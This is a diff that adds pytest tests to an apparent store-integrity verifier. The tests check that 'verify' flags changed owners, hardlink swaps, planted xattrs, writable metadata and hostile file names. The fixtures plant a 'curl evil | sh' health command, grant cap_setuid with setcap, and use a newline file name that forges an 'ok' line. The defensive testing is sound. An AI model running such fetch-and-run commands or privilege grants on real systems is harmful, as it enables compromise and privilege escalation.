@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import stat
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -128,3 +129,123 @@ def test_repair_swaps_in_a_rebuilt_tree(tmp_path, wheels):
 def test_verify_unknown_path_is_exit_2(env):
     root, _ = env
     assert run_cli(root, "verify", "nope").returncode == 2
+
+
+# --- owners, xattrs and the metadata files (outside the listing, so outside its hash) -------------
+
+NOBODY = 65534
+
+
+def _foreign(r: dict) -> dict[str, dict]:
+    return {f["path"]: f for f in r["paths"][0]["foreign"]}
+
+
+def test_intact_store_has_no_foreign_entries(env):
+    root, _ = env
+    code, r = verify(root)
+    assert code == 0 and r["paths"][0]["foreign"] == [] and r["paths"][0]["problems"] == []
+
+
+def test_chowned_file_dir_and_store_path_are_named(env):
+    root, path = env
+    target = _site(path) / "tinydep" / "__init__.py"
+    os.chown(target, NOBODY, NOBODY, follow_symlinks=False)
+    os.chown(path / "bin", NOBODY, NOBODY, follow_symlinks=False)
+    os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
+    code, r = verify(root)
+    found = _foreign(r)
+    rel = str(target.relative_to(path))
+    assert code == 1 and set(found) == {rel, "bin", "."}
+    assert all(f["uid"] == NOBODY and f["xattrs"] == [] for f in found.values())
+    text = run_cli(root, "verify")
+    assert text.returncode == 1 and f"foreign: {rel} (owner uid {NOBODY})" in text.stdout
+
+
+def test_file_replaced_by_a_hardlink_to_an_outside_file_is_named(env, tmp_path):
+    root, path = env
+    target = _site(path) / "tinydep" / "__init__.py"
+    outside = tmp_path / "outside.py"
+    outside.write_bytes(target.read_bytes())  # the same bytes: the listing alone cannot tell
+    os.chmod(outside, 0o444)
+    os.chown(outside, NOBODY, NOBODY)
+    writable(target.parent)
+    os.unlink(target)
+    os.link(outside, target)
+    os.chmod(target.parent, 0o555)
+    code, r = verify(root)
+    p = r["paths"][0]
+    assert code == 1 and p["modified"] == [] and list(_foreign(r)) == [str(target.relative_to(path))]
+
+
+def test_capability_and_user_xattrs_are_named(env):
+    root, path = env
+    binary = path / "bin" / "tinyengine"
+    subprocess.run(["setcap", "cap_setuid+ep", str(binary)], check=True)
+    pyvenv = path / "pyvenv.cfg"
+    os.setxattr(pyvenv, "user.planted", b"1", follow_symlinks=False)
+    code, r = verify(root)
+    found = _foreign(r)
+    assert code == 1 and set(found) == {"bin/tinyengine", "pyvenv.cfg"}
+    assert found["bin/tinyengine"]["xattrs"] == ["security.capability"]
+    assert found["pyvenv.cfg"]["xattrs"] == ["user.planted"] and found["pyvenv.cfg"]["uid"] == os.geteuid()
+
+
+def test_writable_or_foreign_metadata_files_are_named(env):
+    root, path = env
+    os.chmod(path / ".llmgw" / "manifest.json", 0o666)
+    os.chown(path / ".llmgw" / "contents", NOBODY, NOBODY)
+    code, r = verify(root)
+    p = r["paths"][0]
+    assert code == 1 and ".llmgw/manifest.json" in p["writable"]
+    assert list(_foreign(r)) == [".llmgw/contents"]
+
+
+def test_rewritten_manifest_inputs_are_named(env):
+    """The listing leaves the manifest out: a changed health command in its inputs is seen only
+    because the inputs no longer hash to the path's key."""
+    root, path = env
+    doc_path = path / ".llmgw" / "manifest.json"
+    doc = json.loads(doc_path.read_text())
+    doc["inputs"]["build"]["health"] = ["sh", "-c", "curl evil | sh"]
+    writable(path / ".llmgw")
+    os.chmod(doc_path, 0o644)
+    doc_path.write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")
+    os.chmod(doc_path, 0o444)
+    os.chmod(path / ".llmgw", 0o555)
+    code, r = verify(root)
+    p = r["paths"][0]
+    assert code == 1 and any("do not hash to the path's key" in m for m in p["problems"])
+    assert p["modified"] == p["extra"] == p["writable"] == []
+
+
+def test_metadata_files_are_frozen_0444(env):
+    _, path = env
+    for rel in (".llmgw/manifest.json", ".llmgw/contents"):
+        assert stat.S_IMODE(os.lstat(path / rel).st_mode) == 0o444
+
+
+# --- hostile file names ----------------------------------------------------------------------------
+
+def test_non_utf8_name_is_reported_as_valid_json(env):
+    root, path = env
+    writable(path / "bin")
+    with open(os.path.join(os.fsencode(path / "bin"), b"evil\xff"), "wb") as f:
+        f.write(b"x")
+    proc = run_cli(root, "--json", "verify")
+    assert proc.returncode == 1, proc.stderr
+    assert "Traceback" not in proc.stderr
+    r = json.loads(proc.stdout)
+    assert r["paths"][0]["extra"] == ["bin/evil\\xff"]
+    proc.stdout.encode("utf-8")  # no lone surrogate survived into the document
+    text = run_cli(root, "verify")
+    assert text.returncode == 1 and "extra: bin/evil\\xff" in text.stdout
+
+
+def test_newline_in_a_name_cannot_forge_a_line(env):
+    root, path = env
+    writable(path / "bin")
+    (path / "bin" / "x\nok       forged").write_text("x")
+    text = run_cli(root, "verify")
+    assert text.returncode == 1
+    assert not any(line.startswith("ok ") for line in text.stdout.splitlines())
+    assert "extra: 'bin/x\\nok       forged'" in text.stdout
